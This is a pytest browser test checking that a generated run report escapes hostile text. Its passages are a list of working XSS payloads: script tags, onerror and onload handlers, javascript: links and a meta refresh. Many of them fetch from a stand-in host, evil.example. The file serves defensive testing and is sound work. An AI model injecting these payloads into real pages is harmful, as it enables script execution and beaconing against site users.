"""In a real browser: nothing in a report's questions and passages runs, is fetched, or causes an error."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from chromium import Browser, settled
from report_runs import make_run

from stages.report.__main__ import main

OUT = "http://evil.example:9999/"
TEXTS = [
    f"<script>alert(1); fetch('{OUT}script')</script><script src={OUT}src></script>",
    f"<img src={OUT}img onerror=alert(2)><svg onload=alert(3)><animate onbegin=alert(4) attributeName=x></svg>",
    f"<iframe src={OUT}frame srcdoc='<script>alert(5)</script>'></iframe><object data={OUT}object></object>",
    f"<link rel=stylesheet href={OUT}sheet><style>@import '{OUT}import'; body {{background: url({OUT}url)}}</style>",
    f"<details open ontoggle=alert(6)><summary>x</summary></details><video src={OUT}video onerror=alert(7)></video>",
    f"<body onload=alert(8) background={OUT}background><embed src={OUT}embed>",
    "</pre></p></span></article></textarea></title></style><a href=javascript:alert(10) id=bait>x</a>",
    f"<form action={OUT}form><button formaction=javascript:alert(11)>x</button></form><base href={OUT}base>",
    "<p style='animation: a 1s' onanimationstart=alert(12)><![CDATA[<script>alert(13)</script>]]>",
]
ENDLESS = [  # if they run, they leave no page to look at
    "<input autofocus onfocus=alert(14)>\" onmouseover=\"alert(15)\" ' onfocus='alert(16)' autofocus x=' -->",
    f"<meta http-equiv=refresh content='1;url={OUT}refresh'>",
]
# Whatever can be clicked, opened or pointed at.
EVERYTHING = """
for (const one of document.querySelectorAll("*")) {
  if (one.tagName === "DETAILS") one.open = true;
  for (const kind of ["mouseover", "focus", "toggle", "click"])
    if (!(kind === "click" && one.tagName === "A" && one.getAttribute("href").startsWith("#")))
      one.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
}
"""
NOTED = ("Page.javascriptDialogOpening", "Runtime.consoleAPICalled", "Runtime.exceptionThrown", "Log.entryAdded")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Write the report of a run with these texts."""
    root, before = tmp_path_factory.mktemp("run"), Path.cwd()
    make_run(root, passage="".join(TEXTS + ENDLESS))
    os.chdir(root)
    try:
        assert main([]) == 0
    finally:
        os.chdir(before)
    return root / "report/report.html"


def test_nothing_of_a_hostile_trajectory_runs_or_is_fetched(browser: Browser, page: Path) -> None:
    tab = browser.tab()
    tab.open(page.as_uri())
    tab.run(EVERYTHING)
    settled(tab)
    assert tab.happened(*NOTED) == []
    assert tab.asked() == [page.as_uri()]
    shown = tab.run("document.documentElement.innerText")
    assert shown.count("alert(10) id=bait") >= 6
    assert (
        tab.run("document.querySelectorAll('script, #bait, [onerror], iframe, object, embed, base, form').length") == 0
    )


def test_the_same_texts_do_run_where_they_are_not_shown_as_text(browser: Browser, tmp_path: Path) -> None:
    open_page = tmp_path / "open.html"
    open_page.write_text(f"<!doctype html><p>{''.join(TEXTS)}</p>", encoding="utf-8")
    tab = browser.tab()
    tab.open(open_page.as_uri())
    settled(tab)
    assert {"1", "2", "3", "5", "6", "8"} <= {one["message"] for one in tab.happened("Page.javascriptDialogOpening")}
    assert {f"{OUT}{name}" for name in ("script", "src", "img", "sheet", "import")} <= set(tab.asked())
    assert tab.happened("Log.entryAdded")
